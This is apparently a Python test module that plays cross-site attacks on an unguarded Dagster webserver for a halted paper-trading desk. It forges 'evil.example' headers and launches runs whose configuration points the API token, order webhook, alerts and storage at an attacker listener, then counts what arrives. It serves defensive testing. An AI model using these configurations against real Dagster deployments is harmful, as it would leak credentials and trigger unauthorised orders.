"""Attacks by the configuration of a run, against the webserver of Dagster without a guard.

The desk is on paper and halted. It has a token, a webhook, and orders that an attacker would like to leave.
A listener plays the foreign address and the receiver of orders, and counts what arrives.
"""

import json
import os
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from unittest import mock

from dagster_webserver.app import create_app_from_workspace_process_context

from resources.home.make import make_home
from resources.lake.lake import Lake
from resources.trading.leases import LeaseStore
from resources.trading.state import TradingStateStore
from resources.wall_clock import utc_now
from spot.market.delivery import delivery_day_of
from spot.market.gates import gate_closure_utc
from spot.strategy.proposals.settlement_spread import SettlementSpread
from spot.strategy.signals import decide_signals
from tests.support.dagster_ui import LAUNCH, as_get, ask, launch_parameters, served, workspace_of_desk
from tests.support.provider_server import FaultyProvider, faulty_provider, sends
from tests.support.sample_market import ZONE, make_request

_FOREIGN = {"Host": "evil.example", "Origin": "http://evil.example"}
_SEND = ("published_signals",)
_REFUSED = "RunConfigValidationInvalid"


@dataclass(slots=True)
class FoundOfRuns:
    """What was tried, which runs were launched all the same, and what arrived at the foreign address."""

    tried: list[str] = field(default_factory=list)
    launched: list[str] = field(default_factory=list)
    arrived: list[str] = field(default_factory=list)
    plain_run: set[str] = field(default_factory=set)
    """Status of the orders of a run without configuration: the halt holds, so `refused`."""


def measure_runs(folder: Path) -> FoundOfRuns:
    """Launch every run of an attacker, then the plain one, on a desk below `folder`."""
    found = FoundOfRuns()
    with faulty_provider() as attacker, _desk(folder, attacker) as home, workspace_of_desk(home) as workspace:
        attacker.plan = [sends(b"<Acknowledgement_MarketDocument/>")]
        day = _order_day()
        with served(create_app_from_workspace_process_context(workspace)) as port:
            for name, (job, assets, config) in _attacks(home, attacker.url).items():
                parameters = launch_parameters(job, ZONE, day, config, assets)
                found.tried.append(name)
                found.launched += [] if _launch(port, parameters) == _REFUSED else [name]
                found.arrived += [f"{name}: {what}" for what in attacker.asked]
                attacker.asked.clear()
            _launch(port, launch_parameters("signals_ready", ZONE, day, {}, _SEND))
        found.arrived += attacker.asked
        found.plain_run = set(Lake(uri=str(home / "lake")).read("publications")["status"])
    return found


def _attacks(home: Path, url: str) -> Mapping[str, tuple[str, tuple[str, ...], dict[str, Any]]]:
    """Name to job, assets and run configuration."""
    foreign = str(home.parent / "foreign")
    source = {"base_urls": {"entsoe": url}, "data_folder": foreign, "http_folder": foreign}
    outbox = {"state_folder": str(home.parent / "foreign_state"), "home": str(home)}
    desk = {"conf_folder": str(home / "conf"), "zones": {ZONE: {"source": "simulated", "live": True}}}
    later = {"step_dependency_config": {"require_upstream_step_success": False}}

    def of(resource: str, values: dict[str, Any]) -> dict[str, Any]:
        return {"resources": {resource: {"config": values}}}

    return {
        "token to a foreign address": ("auction_results_loaded", (), of("market_source", source)),
        "orders while halted": ("signals_ready", _SEND, of("outbox", outbox)),
        "a clock before the gate": ("signals_ready", _SEND, of("clock", {"fixed_utc": "2025-06-02T09:00Z"})),
        "another lake": ("signals_ready", _SEND, of("lake", {"uri": foreign})),
        "a live zone": ("history_traded", (), of("desk", desk)),
        "alerts elsewhere": ("signals_ready", _SEND, of("alerts", {"channels": url})),
        "another registry": (
            "challengers_reviewed",
            (),
            of("registry", {"tracking_uri": url, "artifact_folder": foreign}),
        ),
        "values elsewhere": ("signals_ready", _SEND, of("io_manager", {"base_dir": foreign})),
        "steps after a failed check": ("signals_ready", _SEND, {"execution": {"config": later}}),
        "settings of an asset": (
            "signals_ready",
            _SEND,
            {"ops": {"published_signals": {"config": {"url": url}}}},
        ),
    }


def _launch(port: int, parameters: Mapping[str, Any]) -> str:
    """What a GET request that any web page can send makes of a run."""
    _, text = ask(port, as_get(LAUNCH, parameters), headers=_FOREIGN)
    return str(json.loads(text)["data"]["launchRun"]["__typename"])


@contextmanager
def _desk(folder: Path, attacker: FaultyProvider) -> Iterator[Path]:
    home = folder / "desk"
    make_home(home, settings={"zones.yaml": f"partition_years: 1\nzones:\n  {ZONE}: {{source: entsoe}}\n"})
    LeaseStore(home).give(ZONE, by="Ann", reason="the only desk", now=utc_now())
    TradingStateStore(home / "trading_state").halt(None, reason="an attack is played", actor="Ann")
    TradingStateStore(folder / "foreign_state").set_up()
    _write_live_orders(Lake(uri=str(home / "lake")), _order_day())
    variables = {
        "SPOTDESK_HOME": str(home),
        "SPOTDESK_ENTSOE_TOKEN": "canary-token",
        "SPOTDESK_SIGNAL_WEBHOOK_URL": f"{attacker.url}/orders",
        "SPOTDESK_SIGNAL_WEBHOOK_SECRET": "canary-secret",
    }
    with mock.patch.dict(os.environ, variables):
        yield home


def _order_day() -> date:
    """A delivery day whose gate is open for some hours."""
    return delivery_day_of(ZONE, utc_now()) + timedelta(days=2)


def _write_live_orders(lake: Lake, day: date) -> None:
    as_of = gate_closure_utc(ZONE, day) - timedelta(hours=1)
    made = decide_signals(make_request(day, SettlementSpread(), as_of_utc=as_of, mode="live"))
    lake.replace("signals", made.frame, zone=ZONE, first_day=day, last_day=day)
    lake.replace("limit_conformance", made.conformance, zone=ZONE, first_day=day, last_day=day)
